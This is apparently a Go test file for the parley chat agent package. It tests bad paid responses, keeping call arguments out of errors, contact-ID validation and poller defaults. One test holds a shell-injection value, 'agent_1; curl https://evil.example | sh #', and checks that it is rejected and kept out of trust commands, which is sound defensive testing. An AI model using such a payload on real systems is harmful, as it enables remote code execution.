package agent_test

import (
	"errors"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/parley-chat/parley/agent"
	"github.com/parley-chat/parley/internal/testkit"
)

// TestBadResponses: a response that is not as the contract says is over, wherever it is read, and the same call made again is a new one.
func TestBadResponses(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	alice, _ := w.register("alice")
	w.AnswerPaid(func(rw http.ResponseWriter, r *http.Request, next http.Handler) {
		_, _ = rw.Write([]byte(`<html>sign in to the network</html>`))
	})
	_, err := alice.Resolve(t.Context(), "bob")
	if bad, ok := errors.AsType[*agent.ResponseError](err); !ok || bad.Charged != 1000 || strings.Contains(err.Error(), "html") {
		t.Errorf("a lookup returns %v", err)
	}
	w.Answer(nil)
	w.register("bob")
	if found, err := alice.Resolve(t.Context(), "bob"); err != nil || found.Name != "bob" {
		t.Errorf("the next lookup returns %v, %v", found, err)
	}
}

// TestErrorsHaveNoQuery: the arguments of a call are not in the error of a payment whose outcome is not known.
func TestErrorsHaveNoQuery(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	alice, _ := w.register("alice")
	w.AnswerPaid(func(rw http.ResponseWriter, r *http.Request, next http.Handler) {
		panic(http.ErrAbortHandler)
	})
	_, err := alice.Call(t.Context(), "listUnreadMessages", map[string]any{"page_size": 77}, agent.CallOptions{Patience: time.Second})
	_, open := errors.AsType[*agent.OpenError](err)
	if !open || strings.Contains(err.Error(), "page_size") {
		t.Errorf("the error is %v", err)
	}
}

// TestIDsInCommands: an id that is not of the contract's form is not kept, and is in no command for a person.
func TestIDsInCommands(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	alice := w.open(w.wallet())
	const shell = "agent_1; curl https://evil.example | sh #"
	for id, chat := range map[string]string{shell: "", testkit.Eve: shell} {
		if err := alice.ChangeContact(t.Context(), id, func(c *agent.Contact) {
			c.Kind, c.Name, c.Chat = agent.KindAgent, "eve", chat
		}); err != nil {
			t.Fatal(err)
		}
	}
	contacts, err := alice.Contacts()
	if err != nil || len(contacts) != 1 || contacts[0].ID != testkit.Eve || contacts[0].Chat != "" {
		t.Errorf("the contacts are %+v, %v", contacts, err)
	}
	for id, want := range map[string]string{shell: "", testkit.Eve: "parley contacts trust " + testkit.Eve} {
		if got := (agent.Contact{ID: id, Name: "eve"}).TrustCommand(); got != want {
			t.Errorf("the command for %s is %q", id, got)
		}
	}
	// A policy of zeros does not divide by them.
	poller := agent.NewPoller(agent.Polling{})
	poller.Fetched()
	if first, next := poller.Pause(), poller.Pause(); poller.Polling != agent.DefaultPolling || first != 0 || next <= 0 {
		t.Errorf("a policy of zeros is %+v and pauses %s and %s", poller.Polling, first, next)
	}
}
